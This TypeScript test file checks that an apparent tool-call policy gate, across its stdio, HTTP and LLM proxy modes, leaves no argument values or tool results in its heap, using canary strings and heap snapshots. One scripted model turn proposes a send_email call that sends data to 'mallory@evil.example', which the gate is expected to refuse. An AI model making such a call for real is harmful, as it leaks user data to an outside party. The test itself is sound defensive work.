// A running gate holds no argument value or tool result past its call. The real binary's MCP
// doors (stdio, and HTTP with its sessions) in front of the real server-everything, driven by
// the SDK client: after echo calls whose message a policy reads (one refused by it, one asked
// twice so Cedar's answer is reused) and whose results carry the message back, the gate writes
// a heap snapshot on SIGUSR2 (Node's --heapsnapshot-signal) and no canary is in it. The LLM door
// likewise, after turns of the official OpenAI SDK whose proposed calls carry canaries (one
// refused) and whose next request sends a canary back as a tool result. A heap snapshot holds
// every live string up to its first 1,024 characters, not the bytes of buffers: each message
// here carries its canaries within its first 1,024 (checked for the LLM requests, the longest).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { EVERYTHING, makeHome, tempDir, writeFiles } from '../helpers/cli.js';
import { startGate } from '../helpers/gate.js';
import { httpClient, spawnDoor } from '../helpers/http-gate.js';
import { startFakeModel } from '../helpers/fake-model.js';
import { llmSetup, openaiAgent } from '../helpers/llm-gate.js';
import { openaiTurn } from '../helpers/llm-agent.js';
import { CANARY_MANIFEST, CANARY_POLICY, heapSnapshotOf, snapshotOnSignal } from '../helpers/heap.js';

/** The calls, then the snapshot of the gate's process `pid` (its dumps going to `dumps`). */
async function callsThenSnapshot(client: Client, pid: number, dumps: string): Promise<void> {
  const tag = randomUUID().replaceAll('-', '');
  const canary = (i: number) => ['canary', tag, String(i)].join('-');
  const texts: string[] = [];
  for (const i of [0, 1, 1, 2]) {
    const r = await client.callTool({ name: 'echo', arguments: { message: canary(i) } });
    const [part] = r.content as { type: string; text: string }[];
    texts.push(part.text.includes(canary(i)) ? 'echoed' : part.text);
  }
  const refused = await client.callTool({ name: 'echo', arguments: { message: `${canary(3)}-forbidden` } }).then(
    () => 'forwarded',
    (e: unknown) => (e instanceof McpError ? 'refused' : String(e)),
  );
  // Positive control: the values went through the gate, both ways.
  assert.deepEqual([...texts, refused], ['echoed', 'echoed', 'echoed', 'echoed', 'refused']);
  await new Promise((r) => setTimeout(r, 100)); // the last result entry's group
  const heap = await heapSnapshotOf(pid, dumps);
  assert.ok(heap.includes('heap-canary@1'), 'the snapshot is of the gate and holds its manifest');
  assert.equal(heap.includes(tag), false, 'the gate still holds an argument value or a result');
}

test('stdio: after its calls, the running gate binary holds none of their argument values or results', { timeout: 180_000 }, async () => {
  const f = writeFiles({ 'm.yaml': CANARY_MANIFEST, 'p.cedar': CANARY_POLICY });
  const dumps = tempDir();
  const g = await startGate({ home: makeHome(), manifest: f['m.yaml'], policy: f['p.cedar'], upstream: [process.execPath, EVERYTHING, 'stdio'], node: snapshotOnSignal(dumps) });
  try {
    await callsThenSnapshot(g.client, g.pid, dumps);
  } finally {
    await g.close();
  }
});

test('http: after its calls, the running gate binary holds none of their argument values or results', { timeout: 180_000 }, async () => {
  const f = writeFiles({ 'm.yaml': CANARY_MANIFEST, 'p.cedar': CANARY_POLICY });
  const dumps = tempDir();
  const args = ['--home', makeHome(), '--manifest', f['m.yaml'], '--policy', f['p.cedar'], '--listen', '127.0.0.1:0', '--', process.execPath, EVERYTHING, 'stdio'];
  const g = await spawnDoor('http-proxy', args, {}, snapshotOnSignal(dumps));
  const client = await httpClient(g.url);
  try {
    await callsThenSnapshot(client, g.child.pid!, dumps);
  } finally {
    await client.close();
    await g.stop();
  }
});

test('llm: after its turns, the running gate binary holds none of the proposed calls\' arguments or the results sent back', { timeout: 180_000 }, async () => {
  const fake = await startFakeModel();
  const s = llmSetup();
  const dumps = tempDir();
  const args = ['--home', s.home, '--manifest', s.manifest, '--policy', s.policy, '--context', s.context, '--upstream-url', fake.url, '--listen', '127.0.0.1:0'];
  const g = await spawnDoor('llm-proxy', args, {}, snapshotOnSignal(dumps));
  try {
    const tag = randomUUID().replaceAll('-', '');
    const canary = (what: string) => ['canary', tag, what].join('-');
    const names: string[] = [];
    for (const stream of [false, true]) {
      const script = { text: 'On it.', calls: [{ name: 'get_weather', arguments: { city: canary('city') } }, { name: 'send_email', arguments: { to: 'mallory@evil.example', body: canary('body') } }] };
      const t = await openaiTurn(openaiAgent(g.url), script, stream);
      names.push(...t.calls.map((c) => (JSON.stringify(c.args).includes(tag) ? `${c.name} with its canary` : c.name)), t.text.includes('cloakpipe refused send_email') ? 'refused' : t.text);
      const history = [
        { role: 'user', content: '{}' },
        { role: 'assistant', content: null, tool_calls: [{ id: t.calls[0].id, type: 'function', function: { name: 'get_weather', arguments: JSON.stringify(t.calls[0].args) } }] },
        { role: 'tool', tool_call_id: t.calls[0].id, content: `sunny, ${canary('result')}` },
      ];
      await openaiTurn(openaiAgent(g.url), { text: 'noted' }, stream, { messages: history });
    }
    // Positive control: the values went through the gate, both ways.
    assert.deepEqual(names, ['get_weather with its canary', 'refused', 'get_weather with its canary', 'refused']);
    assert.ok(fake.seen.some((r) => JSON.stringify(r.body).includes(canary('result'))), 'the model got the result');
    for (const r of fake.seen) assert.ok(JSON.stringify(r.body).lastIndexOf(tag) < 1000, 'a canary past what a snapshot shows of a string');
    await new Promise((r) => setTimeout(r, 100));
    const heap = await heapSnapshotOf(g.child.pid!, dumps);
    assert.ok(heap.includes('llm-e2e@1'), 'the snapshot is of the gate and holds its manifest');
    assert.equal(heap.includes(tag), false, 'the gate still holds an argument value or a result');
  } finally {
    await g.stop();
    await fake.close();
  }
});
